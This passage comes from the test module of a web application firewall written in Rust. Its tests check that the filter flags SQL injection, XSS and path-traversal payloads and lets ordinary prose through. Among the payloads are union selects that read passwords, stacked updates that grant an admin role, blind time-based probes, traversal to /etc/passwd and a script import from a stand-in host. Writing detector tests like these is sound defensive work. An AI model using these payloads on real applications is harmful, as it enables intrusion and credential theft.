            ("id=1%3Balter+table+users+add+x+int", "sqli-stacked"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
        // (h) JSON in a form field (Slack's `payload=`).
        let slack = inspect_body(
            &c,
            Some("application/x-www-form-urlencoded"),
            b"payload=%7B%22text%22%3A%22%5Cu003cscript%5Cu003eprompt(1)%22%7D",
        );
        assert_eq!(slack.map(|h| h.rule), Some("xss-script"));
    }

    #[test]
    fn statements_stay_caught_where_prose_now_passes() {
        let c = config();
        // (n) The shapes a narrower reading of `; update`, `; shutdown` and `; insert` must keep.
        for query in [
            "id=1%3B+update+users+set+role%3D'admin'",
            "id=1%3B+update+users+set%2F**%2Frole%2F**%2F%3D'admin'",
            "id=1%3B+update+users+set+%60role%60%3D'admin'",
            "id=1%3B+update+users+set+(a%2Cb)%3D(1%2C2)",
            "id=1%3B%0Aupdate%0Ausers%0Aset%0Arole%3D'admin'",
            "id=1%3B+update+t+set+t.col.SetXY(1%2C2)",
            "id=1%3B+update+a+join+b+on+a.id%3Db.id+set+a.role%3Db.role",
            "id=1%3B+shutdown",
            "id=1%3B+shutdown--",
            "id=1%3B+shutdown+%23x",
            "id=1%3B+shutdown%3B",
            "id=1%3B+shutdown+with+nowait",
            "id=1%3B+insert+into+users+values(1%2C'x')",
            "id=1%3B+insert+into+users(id)+select+1",
            "id=1%3B+insert+into+users+set+id%3D1",
            "id=1%3B+insert+ignore+into+users+values(1)",
            "id=1%3B+insert+into+users+table+staff",
            "id=1%3B+insert+into+users+default+values",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-stacked"),
                "{query}"
            );
        }
        // Statements longer than the window: a column list whose `=` lies past it, tables named for a kilobyte
        // before the `set`, a grant of many tables.
        let columns = format!("id=1%3B+update+t+set+({}c0)%3D(1)", "col%2C+".repeat(200));
        let tables = format!(
            "id=1%3B+update+users+u+{}set+u.role%3D'admin'",
            "join+users+v+on+u.id%3Dv.id+".repeat(40)
        );
        let grant = format!(
            "id=1%3B+grant+maintain+on+table+{}t+to+x",
            "t%2C+".repeat(300)
        );
        let roles = format!("id=1%3B+grant+{}r+to+x", "r%2C+".repeat(300));
        for query in [columns, tables, grant, roles] {
            assert_eq!(
                inspect_url(&c, "/api", Some(&query)).map(|h| h.rule),
                Some("sqli-stacked"),
                "{query:.80}"
            );
        }
    }

    #[test]
    fn false_positives_of_the_payload_review_pass() {
        let c = config();
        for text in [
            // (m) a script scheme only where a URL starts.
            "q=I%27m+reading+JavaScript%3A+The+Good+Parts",
            "q=Book+review%3A+JavaScript%3A+The+Good+Parts",
            // (n)
            "q=hello%3B+update+me+set+later",
            "q=patch+db%3B+shutdown+at+5pm",
            "q=Step+3%3B+insert+into+slot+B",
            // (o)
            "q=Regular+expression(s)+are+hard",
            // Prose near the new shapes.
            "q=I%27m+5%2711%22+tall+and+online%3Dyes",
            "q=He+said+%22hello%22+and+left+%E2%80%94+onward",
            "q=Approved%3B+grant+him+access+to+the+repo",
            "q=hello%3B+drop+me+a+line",
            "q=Plan+ready%3B+execute+it+tomorrow",
            "q=Tip%3B+alter+the+layout",
            "q=Note%3B+truncate+the+text+if+it+is+too+long",
            "q=rooms%3D1+or+2",
            "q=https%3A%2F%2Fexample.com%2Fa%2F%2Fb%2F.%2Fc",
            "q=See+https%3A%2F%2Fexample.com%2F%23top%0Aand+more",
            "q=C%23+and+C%2B%2B%0Aselect+your+language",
            "q=the+benchmark+(2024)+results",
            "q=I+need+sleep+(8h)",
            "q=%5Cu0041BC+test",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(text)), None, "{text}");
        }
        for (text, rule) in [
            ("u=javascript:prompt(1)", "xss-scheme"),
            ("q=%3Ca+href%3D+javascript:prompt(1)%3E", "xss-scheme"),
            ("q=%3Ca+href%3D'++javascript:prompt(1)'%3E", "xss-scheme"),
            ("q=%5Bx%5D(javascript:prompt(1))", "xss-scheme"),
            ("q=%3Cjavascript:prompt(1)%3E", "xss-scheme"),
            ("q=%01javascript:prompt(1)", "xss-scheme"),
            ("q=a+%3D+java%09script:prompt(1)", "xss-scheme"),
            (
                "q=%3Cp+style%3D%22width:+expression(prompt(1))%22%3E",
                "xss-dom",
            ),
            ("q=x%7Bwidth:expression(prompt(1))%7D", "xss-dom"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(text)).map(|h| h.rule),
                Some(rule),
                "{text}"
            );
        }
        assert_eq!(
            inspect_url(&c, "/javascript:prompt(1)", None).map(|h| h.rule),
            Some("xss-scheme"),
            "a path segment"
        );
    }

    #[test]
    fn attributes_are_read_as_a_browser_reads_them() {
        assert_eq!(
            tag_texts("<a x\"y=\">\" onmouseover=x> <b c=d=\"e f=\">\" g> <i j = 'k>'>")
                .collect::<Vec<_>>(),
            [
                "a x\"y=\">\" onmouseover=x",
                "b c=d=\"e f=\">\" g",
                "i j = 'k>'"
            ],
        );
        assert!(EVENT_HANDLERS.windows(2).all(|w| w[0] < w[1]), "sorted");
        assert!(attribute_breakout(b"\" a=\"b\" c onload =x"));
        assert!(
            !attribute_breakout(b"\" title=\"the onload event\""),
            "a name inside a value"
        );
        assert!(
            !attribute_breakout(b"\" a> onload=x"),
            "after the tag's end"
        );
        assert!(!attribute_breakout(b"onload=x"), "no quote before it");
        // Every quote starts a reading; together they stay linear.
        let quotes = "\" a='b' c ".repeat(64 * 1024 / 11);
        assert!(!attribute_breakout(quotes.as_bytes()));
    }

    #[test]
    fn a_script_scheme_is_caught_wherever_a_reader_may_take_it_for_a_url() {
        let c = config();
        for (content_type, body) in [
            (
                "application/xml",
                "<item><link>javascript:prompt(1)</link></item>",
            ),
            (
                "text/markdown",
                "See [the docs][x].\n\n[x]: javascript:prompt(1)",
            ),
            ("text/csv", "name,url\nbob,javascript:prompt(1)"),
            ("text/plain", "0;javascript:prompt(1)"),
            ("text/plain", "a|javascript:prompt(1)"),
            ("text/plain", "see below.\njavascript:prompt(1)"),
            ("text/plain", "see below.\r\n  javascript:prompt(1)"),
            ("text/plain", "see below.\njava\tscript:prompt(1)"),
            ("text/plain", "see: x\n\tjavascript:prompt(1)"),
            ("text/plain", "javascript:prompt(1)"),
            ("text/plain", "- javascript:prompt(1)"),
            ("text/plain", "see below.\njavascript:void prompt(1)"),
            ("text/plain", "see below.\njavascript: prompt(1)"),
            ("text/plain", "x & javascript:alert`1`"),
            ("text/plain", "1. javascript://evil.example/%0aprompt(1)"),
            ("text/plain", "see below.\njavascript:\nprompt(1)"),
            ("application/json", "{\"url\":\" javascript:prompt(1)\"}"),
            ("text/plain", "see below.\njavascript:name\u{2028}prompt(1)"),
            ("text/plain", "see below.\njavascript:name\u{a0}prompt(1)"),
        ] {
            assert_eq!(
                inspect_body(&c, Some(content_type), body.as_bytes()).map(|h| h.rule),
                Some("xss-scheme"),
                "{body:?}"
            );
        }
        for body in [
            "I'm reading JavaScript: The Good Parts",
            "Book review: JavaScript: The Good Parts",
            "Languages I use:\tJavaScript: mostly React",
            "We ship 2 JavaScript: builds",
            "Skills:\n- JavaScript: 5 years\n- Python: 3 years",
            "* JavaScript: ES2020 features",
            "1. JavaScript: The Good Parts",
            "2) JavaScript: The Good Parts",
            "My favourite books:\nJavaScript: The Definitive Guide",
            "Hi all,\n\nJavaScript: we agreed to drop IE11.\n",
            "Frontend stack - JavaScript: React 18",
            "\"HTML & JavaScript: Web Design for Beginners\"",
            "HTML & JavaScript: Web Design for Beginners",
            "Topics covered: HTML, CSS, JavaScript: all the basics",
            "* JavaScript: ES2020\u{2026}",
            "Topics covered: HTML, CSS, JavaScript: all\u{2026}",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), body.as_bytes()),
                None,
                "{body:?}"
            );
        }
        for (content_type, body) in [
            (
                "application/json",
                r#"{"bio":"Skills:\n- JavaScript: 5 years\n- Python: 3 years"}"#,
            ),
            (
                "application/json",
                r#"{"title":"JavaScript: The Good Parts"}"#,
            ),
            (
                "application/x-www-form-urlencoded",
                "bio=Skills%3A%0A-+JavaScript%3A+5+years%0A-+Python%3A+3+years",
            ),
        ] {
            assert_eq!(
                inspect_body(&c, Some(content_type), body.as_bytes()),
                None,
                "{body:?}"
            );
        }
        assert_eq!(
            inspect_url(
                &c,
                "/books",
                Some("title=HTML+%26+JavaScript%3A+Web+Design+for+Beginners")
            ),
            None
        );
        assert_eq!(
            inspect_url(&c, "/r", Some("next=javascript%3Aprompt(1)")).map(|h| h.rule),
            Some("xss-scheme")
        );
    }

    #[test]
    fn json_in_a_value_is_decoded_whatever_escape_it_holds() {
        let c = config();
        for (query, rule) in [
            (
                "q=%7B%22u%22%3A%22java%5Ctscript%3Aprompt(1)%22%7D",
                "xss-scheme",
            ),
            (
                "q=%7B%22u%22%3A%22data%3Atext%5C%2Fhtml%3Bbase64%2CPHNjcmlwdD4%3D%22%7D",
                "xss-scheme",
            ),
            (
                "q=%7B%22f%22%3A%22%5C%2Fetc%5C%2Fpasswd%22%7D",
                "traversal-file",
            ),
            (
                "q=%7B%22f%22%3A%22..%5C%2F..%5C%2Fsecret%22%7D",
                "traversal-dotdot",
            ),
            (
                "q=%7B%22u%22%3A%22%5C%22+onfocus%3D%5C%22prompt(1)%22%7D",
                "xss-event-handler",
            ),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
        for query in [
            "path=C%3A%5CUsers%5Cbob%5Cnotes.txt",
            "re=%5Cbword%5Cb",
            "q=%7B%22name%22%3A%22O%5C%22Brien%22%7D",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
    }

    #[test]
    fn long_prose_after_a_statement_verb_passes() {
        let c = config();
        let filler = "We will get back to you with more details in a while, and thanks again for your patience. "
            .repeat(14);
        for text in [
            format!("Thanks; update coming soon. {filler}"),
            format!("Approved; grant him access when ready. {filler}"),
            format!("Thanks; update me later #soon {filler}"),
            format!("Thanks; update me later -- Bob {filler}"),
            format!("Approved; grant him access -- {filler} to the repo"),
            format!("Thanks; update coming, we set off soon. {filler}"),
        ] {
            assert!(text.len() > STATEMENT_WINDOW);
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text:.60}"
            );
        }
        // Comments hide no statement: the reading with comments removed sees past them.
        for text in [
            format!("1; update users # {filler}\nset role='admin'"),
            format!("1; update users -- {filler}\nset role='admin'"),
            format!("1; grant all on *.* # {filler}\nto x"),
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()).map(|h| h.rule),
                Some("sqli-stacked"),
                "{text:.60}"
            );
        }
    }

    /// A login query written with parentheses is ended by a quote, `)` and a comment, which `'--` alone missed.
    /// A lone 0xA0 byte is a blank to MySQL on a `latin1` connection; read as U+FFFD it glued `union` to `select`.
    #[test]
    fn a_lone_latin1_no_break_space_is_a_blank() {
        let c = config();
        for (query, rule) in [
            ("id=1%a0union%a0select%a0pw", Some("sqli-union")),
            ("id=1%A0union%A0select+pw+from+users", Some("sqli-union")),
            ("id=1%c0%ae%a0union%a0select+pw", Some("sqli-union")),
            ("q=price%a0100%a0EUR", None),
            ("q=voil%c3%a0+select+one", None),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                rule,
                "{query}"
            );
        }
        assert_eq!(
            lenient_utf8(b"a\xa0b\xffc\xc3\xa0"),
            "a\u{a0}b\u{fffd}c\u{e0}"
        );
    }

    /// SQL Server waits until a time of day as well as for a delay: `waitfor time` is as time-based as `waitfor
    /// delay`; Oracle waits on a pipe (`dbms_pipe.receive_message`).
    #[test]
    fn sql_servers_wait_until_a_time_is_caught() {
        let c = config();
        for query in [
            "id=1%3Bwaitfor+time+'23:59'",
            "id=1+waitfor+time+'23:59'",
            "id=1%3Bwaitfor%2F**%2Ftime+'23:59'",
            "id=1+and+1%3Ddbms_pipe.receive_message(('a'),5)",
            "id=1%3Bwaitfor+time'23:59'",
            "id=1%3Bwaitfor+time+@t",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-function"),
                "{query}"
            );
        }
        // `time` starting a longer word is prose: a testing library's `waitFor` and its `timeout` option.
        for text in [
            "use waitFor timeout option",
            "// waitFor timestamps to settle",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    #[test]
    fn a_comment_after_a_quote_and_parentheses_is_caught() {
        let c = config();
        for query in [
            "u=admin')--",
            "u=admin')+--+-",
            "u=admin')%23",
            "u=admin')%09%23",
            "u=admin'))--",
            "u=admin%22)--",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-comment"),
                "{query}"
            );
        }
        // A quote the query's string is closed by, after strings and names the value itself opened and closed.
        for query in [
            "u=x'+or+name%3D('admin')--",
            "u=admin'+or+%22x%22)--",
            "u=a''b')--",
            "u=a\\'b')--",
            "u=admin'+and+`a'`%3D'x')--",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-comment"),
                "{query}"
            );
        }
        for text in [
            "f(x) -- see 'notes'",
            "(as 'x') and then",
            "rock ('n') roll",
            // The quote before `)` opens a string when the query's string ends at the first: code and its comment.
            "print('hello')\n# next step",
            "I call foo('bar')\n\n## Expected behaviour",
            "x = f(\"a\")  # a comment",
            "click 'Save') -- then close",
            "admin'')--",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    #[test]
    fn a_like_pattern_matches_as_sql_reads_it() {
        for (text, pattern, matches) in [
            ("x", "%", true),
            ("", "%", true),
            ("abc", "a_c", true),
            ("abc", "a%", true),
            ("abc", "%b%", true),
            ("abc", "%c%%", true),
            ("abc", "ab", false),
            ("abc", "_b", false),
            ("a", "50%", false),
            // Past the bounds, compared as they are.
            (&"a".repeat(65), "%", false),
            ("a", &"%".repeat(33), false),
        ] {
            assert_eq!(
                like_matches(text.as_bytes(), pattern.as_bytes()),
                matches,
                "{text:?} like {pattern:?}"
            );
        }
    }

    #[test]
    fn an_ordering_is_a_tautology_only_between_literals() {
        let c = config();
        // A filter's range: the number after `>=` starts no value, so no numeric injection follows it.
        for query in [
            "filter=age%3E%3D18+and+age%3C%3D65",
            "q=rating%3E%3D4+and+price%3C50",
            "q=x!%3D0+and+y%3E1",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
        for text in [
            "if name == 'admin' or role != guest:",
            "SELECT * FROM t WHERE name = 'bob' AND age > 18",
            "I'd pick 'A' and price > 5",
            "the 'old' and new <> same",
            "it's 'on' or count >= 3 here",
            "\"x\" and total < limit",
            "I said 'yes' or not really -- whatever",
            "if s == 'x' and len(a) > 5: # check",
            "it's 'a' and max(b) = c, see f('x')",
            "I'd say 'yes' or f(x) = 'no' here",
            "'A' and price > 5 or 'B' and price > 9",
            "q=3 or more",
            "it's 'on' or 1 in 3 -- roughly",
            "Tom's or 1 of them",
            "I'd say 'yes' or '1' here",
            // A string closed at the end meets the query's quote as a doubled one: no injection.
            "I'd say 'yes' or '1'",
            "q=name = 'x' or '1'",
            "it's 3 or 4 or 'five'",
            "'-0 degrees' it said",
            "'=SUM(A1)'",
            "'0'",
            "'-'",
            "'=0",
            "sep = ' = '",
            "it's 'a' like '50% off' here",
            "they're 'ok' or 'x' like 'y%'",
            "print(k + ' = ' + v)",
            // A name's between, in or is, a `;` after a comparison, a comment inside one: no comment ends them.
            "it's 'a' or id between 1 and 2 here",
            "I'd take 'x' and size in (1, 2) maybe",
            "it's 'on' or x is null, see",
            "it's 'a' and len(b) > 5; then c",
            "it's 'a' or score /* note */ > 0 today",
            "it's 'a' and f/**/(b) > 5; done",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
        for query in [
            "u='+or+2%3E1--+-",
            "u=1'+or+'a'%3C%3E'b",
            "u=1'+or+'b'%3E'a",
            "u=x'+or+2.5%3E1+%23",
            "u=%22+or+3!%3D4+%23",
            "u=x'+or+x%3Dx+%23",
            "u=x'+or+name%3C%3D%3Ename+%23",
            "u=1'+||+2%3E%3D1+%23",
            "u='+or+id%3E0--+-",
            "u='+or+id%3E0%23",
            // A numeric injection: a name's ordering after the number the value starts with.
            "id=1+or+id%3E0",
            "id=5+or+price%3E0",
            // An open quote after it, for the query's own to close.
            "user=admin'+or+id%3E0+or+'",
            "user='+or+id%3E0+and+''%3D'",
            "u='+or+id%3C%3E0+or+'",
            // A literal's in, between, is [not] null, and not, before a comment.
            "u='+or+1+in+(1)--+-",
            "u='+or+2+between+1+and+3--+-",
            "u='+or+1+is+not+null--+-",
            "u='+or+1+is+null%23",
            "u='+or+not+0--+-",
            "u='+or+'a'+in+('a')%23",
            // Arithmetic on the empty string, compared with a name: every row in MySQL and SQLite.
            "u='%3D0%23",
            "u='%3D0--+",
            "u='%3D'",
            "u='-0%23",
            "u='*0*'",
            "u='^0%23",
            // Blanks around the operator: MySQL reads `u = '' = 0` as well.
            "u='+%3D+0--+-",
            "u='%3D+0%23",
            "u='+-+0%23",
            // PostgreSQL's dollar-quoted strings.
            "u='+or+$$a$$%3D$$a$$--+-",
            "u='+or+$$a$$%3D$$a$$%3B--",
            // A truth before a quote the query closes: `'' or '1'`, `'' or 1 or ''`.
            "u='+or+'1",
            "u='+or+1+or+'",
            "u=x'+or+true+or+'",
            "u=x'||'1",
            // MySQL's regular-expression match of a literal with itself.
            "u='+or+1+rlike+1--+-",
            "u='+or+'a'+regexp+'a",
            // The word operators glued to the quotes, as MySQL and SQLite tokenize them: `'' OR 'x'LIKE'x'`.
            "u='+OR+'x'LIKE'x",
            "u=admin'or'x'like'x",
            "u='+or+'a'rlike'a",
            "u='+or+'a'regexp'a",
            "u='+or+'a'like('a')--",
            // A LIKE pattern that matches the left: `%` any run, `_` one character (`'' or 'x' like '%'`).
            "u=admin'+or+'x'+like+'%25",
            "u='+or+'abc'+like+'a_c",
            "u='+OR+'admin'LIKE'ad%25",
            // A call compared, as a name is, with a comment or the query's quote after it: the blind injection
            // reading a column one comparison at a time.
            "u=admin'+AND+length(password)>5--",
            // A blank between the name and `(`: every SQL dialect reads `length (password)` as the call.
            "u=admin'+AND+length+(password)>5--",
            "u=1'+and+ascii(substr(password,1,1))>64%23",
            "u='+AND+SUBSTRING(password,1,1)='a",
            // A name's or call's `between` or `in (…)` before a comment, as a literal's.
            "u='+or+id+between+1+and+2--",
            "u='+and+ascii(substr(pw,1,1))+in+(65)--",
            "u='+or+pw+is+not+null%23",
            // A `;` and a comment after the comparison, as a comment alone.
            "u='+AND+LENGTH(password)%3E5%3B--",
            "u='+or+id%3E0%3B+%23",
            // A comment inside the comparison: the reading without it keeps the comment that ends the text.
            "u='+or+id/**/%3E0--",
            "u='+AND+length/**/(password)%3E5--",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-tautology"),
                "{query}"
            );
        }
    }

    #[test]
    fn whitespace_collapses_alike_in_ascii_and_in_other_text() {
        for text in [
            "a \t\n\x0b\x0c\rb\x01\x1f c \0",
            "é \t\n\x0b\x0c\rb\x01\x1f c \0",
            "\u{a0}\u{3000}x",
        ] {
            let expected: String = {
                let mut out = String::new();
                let mut last = false;
                for c in text.chars() {
                    let space = c.is_whitespace() || ('\u{1}'..='\u{1f}').contains(&c);
                    if !(space && last) {
                        out.push(if space { ' ' } else { c });
                    }
                    last = space;
                }
                out
            };
            assert_eq!(collapse(text), expected, "{text:?}");
        }
        assert!(names_a_handler(b"x onload =1") && names_a_handler(b"\"onfocus=x"));
        assert!(!names_a_handler(b"online=yes ongoing=1 xonload=1 on=1"));
    }

    #[test]
    fn every_handler_name_is_one() {
        let c = config();
        for name in [
            "oncommand",
            "onbeforexrselect",
            "onwebkitfullscreenchange",
            "onwebkitplaybacktargetavailabilitychanged",
            "onwebkitbeginfullscreen",
            "onwebkitendfullscreen",
            "onwebkitpresentationmodechanged",
            "onstart",
            "onfinish",
            "onbounce",
            "onbeforescriptexecute",
            "onactivate",
            "onpointerlockchange",
            "onvisibilitychange",
        ] {
            let later = format!("q=%22+autofocus+{name}%3D%22prompt(1)");
            assert_eq!(
                inspect_url(&c, "/api", Some(&later)).map(|h| h.rule),
                Some("xss-event-handler"),
                "{later}"
            );
        }
        for query in [
            "q=%22onfuturething%3Dprompt(1)",
            "q='onsomethingnew+%3D+prompt(1)",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("xss-event-handler"),
                "{query}"
            );
        }
        for query in [
            "q=%22+autofocus+onfuturething%3D1",
            "q=%22on%3D1",
            "q=%22onxy%3D1",
            "q=I%27m+5%2711%22+tall+and+online%3Dyes",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
    }

    #[test]
    fn nested_comments_and_control_bytes_hide_no_sql() {
        let c = config();
        for (query, rule) in [
            ("id=1+union/*/**/*/select+password+from+users", "sqli-union"),
            (
                "id=1+union/*+/*+x+*/+*/select+password+from+users",
                "sqli-union",
            ),
            ("id=1+union%01select+password+from+users", "sqli-union"),
            ("id=1+union%1Fselect+password+from+users", "sqli-union"),
            ("id=1%3B%01update+users+set+role%3D'admin'", "sqli-stacked"),
            ("t=1+and+sleep%01(5)", "sqli-function"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
        // Read both ways: MySQL closes the comment at the first */.
        assert_eq!(
            inspect_url(&c, "/api", Some("id=1+union/*+/*+*/select+1+--+*/")).map(|h| h.rule),
            Some("sqli-union")
        );
        assert_eq!(
            without_sql_comments("a/*/**/*/b /* x", true).unwrap(),
            "a b /* x",
            "nested, and an unclosed one kept"
        );
    }

    #[test]
    fn unclosed_comments_are_read_in_linear_time() {
        // Each unclosed `/*` used to send the reading to the end of the text again: 64 KiB of them took seconds (in
        // a debug build, minutes). Now a `/*` with no `*/` after it costs nothing, and the nested reading walks to
        // the end at most UNCLOSED_WALKS times before it gives up and refuses.
        let c = config();
        let k = 64 * 1024;
        assert_eq!(
            inspect_body(&c, Some("text/plain"), "/*".repeat(k / 2).as_bytes()).map(|h| h.rule),
            None
        );
        for body in [
            "/*x".repeat(k / 3),
            "--\n/*".repeat(k / 5),
            "#\n/*x".repeat(k / 5),
        ] {
            assert_eq!(inspect_body(&c, Some("text/plain"), body.as_bytes()), None);
            assert!(without_sql_comments(&body, true).is_some());
        }
        let query = format!("q={}", "/*".repeat(8 * 1024));
        assert_eq!(inspect_url(&c, "/a", Some(&query)), None);
        // Globs: each `/*/` holds a `*/`, which closes nothing.
        let globs = "src/*/lib/*.rs ".repeat(k / 15);
        assert_eq!(inspect_body(&c, Some("text/plain"), globs.as_bytes()), None);
        // Openers a single `*/` at the end cannot all close (nested): the walks stop at the cap.
        let opened = format!("{}*/", "/*".repeat(k / 2));
        assert_eq!(without_sql_comments(&opened, true), None);
        assert!(without_sql_comments(&opened, false).is_some());
        assert_eq!(
            inspect_body(&c, Some("text/plain"), opened.as_bytes()).map(|h| h.rule),
            Some("sqli-comment")
        );
        // Up to the cap they are read as before: an unclosed one opens nothing, a closed one still hides.
        let few = format!(
            "{} union/**/select pw from users */",
            "/*".repeat(UNCLOSED_WALKS - 1)
        );
        assert_eq!(
            inspect_body(&c, Some("text/plain"), few.as_bytes()).map(|h| h.rule),
            Some("sqli-union")
        );
        // Globs with no */ after them pass.
        let globs = "src/*.rs tests/*.rs ".repeat(200);
        assert_eq!(inspect_body(&c, Some("text/plain"), globs.as_bytes()), None);
    }

    #[test]
    fn charset_parameters_are_read_in_linear_time() {
        // For each `;` the splitter recounted the quotes before it: 64 KiB of `;` after `charset="` took seconds.
        let c = config();
        let k = 64 * 1024;
        let multipart = format!(
            "--b\r\nContent-Disposition: form-data; name=\"a\"; charset=\"{}\r\n\r\nx\r\n--b--\r\n",
            ";".repeat(k)
        );
        // Refused as before (the unclosed quote reads on into the part's content), now in one reading.
        assert!(foreign_charset(&multipart.to_ascii_lowercase()));
        let header = format!("text/plain; charset=\"{}", ";".repeat(16 * 1024));
        assert_eq!(inspect_body(&c, Some(&header), b"x"), None);
        for (text, foreign) in [
            ("charset=\"".repeat(k / 9), true),
            ("charset=x;".repeat(k / 10), true),
            ("charset=; ".repeat(k / 10), false),
            (format!("charset=\"{}", "\\\";".repeat(k / 3)), false),
        ] {
            assert_eq!(foreign_charset(&text), foreign);
        }
        // The readings still judge as before.
        for (value, foreign) in [
            ("text/plain; charset=utf-8", false),
            ("text/plain; charset=\"utf-8\"", false),
            ("text/plain; charset=\"utf-8;x\"", true),
            ("text/plain; charset=\"a\\\";utf-7\"", true),
            ("text/plain; charset=\",utf-7\"", true),
            ("text/plain; charset=iso-8859-15", false),
            ("text/plain; charset=ansi_x3.4-1968", false),
            ("text/plain; charset=ansi_x3.4-19680", true),
            ("text/plain; charset=\"utf-8\" ; x=\"a;utf-7\"", false),
        ] {
            assert_eq!(foreign_charset(value), foreign, "{value}");
        }
    }

    #[test]
    fn a_comment_marker_in_a_string_hides_no_union() {
        // Each marker comments out the rest in the readings with comments removed; `union/**/select` is read
        // where it stands.
        let c = config();
        for (query, rule) in [
            (
                "id=-1+and+'a--'%3D'b'+union/**/select+user,password+from+users",
                "sqli-union",
            ),
            (
                "id=1+and+'a%23'%3D'b'+union/**/select+user,password+from+users",
                "sqli-union",
            ),
            (
                "id=-1+and+'a/*'%3D''+union/**/select+password,'*/'+from+users",
                "sqli-union",
            ),
            (
                "id=1--1+union/**/select+user,password+from+users",
                "sqli-union",
            ),
            (
                "id=1--1+union/*!50000select*/+password+from+users",
                "sqli-union",
            ),
            (
                "id=1+and+'a--'+union%23x%0Aselect+password+from+users",
                "sqli-union",
            ),
            ("id=1+and+'a--'+union+all/**/select+password", "sqli-union"),
            ("id=1+and+'a--'+and+sleep/**/(5)", "sqli-function"),
            ("id=1+and+'a--'%3B/**/drop/**/table+users", "sqli-stacked"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
        for text in [
            "the union -- and select boxes -- line up",
            "a union /* of sorts */ of select people",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    #[test]
    fn table_statements_sleeps_and_string_breakouts_are_caught() {
        let c = config();
        for (query, rule) in [
            ("id=1+union+table+users", "sqli-union"),
            ("id=1+union+all+table+users--+-", "sqli-union"),
            ("id=1+union+table+`users`+limit+1", "sqli-union"),
            ("id=1+and+pg_sleep_for('5+minutes')", "sqli-function"),
            ("id=1+and+pg_sleep_until(now()%2B'1+hour')", "sqli-function"),
            ("q='-prompt(1)-'", "xss-dom"),
            ("q='-confirm(document.domain)-'", "xss-dom"),
            ("q=';import('//evil.example/x.js')//", "xss-dom"),
            ("q=\"%2Bprompt(1)%2B\"", "xss-dom"),
            ("q=');confirm(1)//", "xss-dom"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
        for text in [
            "Meet at the union table tennis club",
            "The union table was full",
            "We set the union table up; see you",
            "Write the prompt(s) first, then confirm(yes/no) and import(ant) notes",
            "Step 2 - prompt(user) for a name",
            "the 'prompt' (s) and a-confirm(x)",
            "She said 'ok' - confirm (later)",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    /// Rack (Rails, Sinatra) parses a POST body with no `Content-Type` as a form: `+` is a space there.
    #[test]
    fn an_untyped_body_is_also_read_as_a_form() {
        let c = WafConfig::default();
        for (content_type, body, rule) in [
            (None, "id=1+union+select+password+from+users", "sqli-union"),
            (Some(""), "u=%27+or+%271%27%3D%271", "sqli-tautology"),
            (
                None,
                "a=1&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "xss-script",
            ),
        ] {
            assert_eq!(
                inspect_body(&c, content_type, body.as_bytes()).map(|h| h.rule),
                Some(rule),
                "{body}"
            );
        }
        for body in [
            "name=O%27Brien&note=Tom+%26+Jerry+select+a+union+rep",
            "1+1=2 & 2+2=4",
            "{\"q\": \"a+b\"}",
        ] {
            assert_eq!(inspect_body(&c, None, body.as_bytes()), None, "{body}");
        }
    }

    #[test]
    fn cookies_user_agent_and_referer_are_read_as_input() {
        let c = WafConfig::default();
        let read = |name: &str, value: &str| {
            inspect_headers(&c, &[(name.to_owned(), value.to_owned())]).map(|h| h.rule)
        };
        for (name, value, rule) in [
            (
                "Cookie",
                "theme=dark; id=1%27%20OR%20%271%27%3D%271",
                "sqli-tautology",
            ),
            (
                "cookie",
                "sort=name+union+select+password+from+users",
                "sqli-union",
            ),
            (
                "cookie",
                "a=1; lang=..%2F..%2Fetc%2Fpasswd",
                "traversal-dotdot",
            ),
            ("cookie", "<script>alert(1)</script>=1", "xss-script"),
            (
                "User-Agent",
                "Mozilla/5.0', (select sleep(5)))-- -",
                "sqli-function",
            ),
            (
                "referer",
                "https://example.com/<script>alert(1)</script>",
                "xss-script",
            ),
            // The Referer's query as the analytics that parse it read it: `+` a space, pair by pair.
            (
                "referer",
                "https://shop.example/search?q=1'+union+select+password+from+users--",
                "sqli-union",
            ),
            (
                "Referer",
                "https://shop.example/search?page=2&q='+or+'1'='1#top",
                "sqli-tautology",
            ),
        ] {
            assert_eq!(read(name, value), Some(rule), "{name}: {value}");
        }
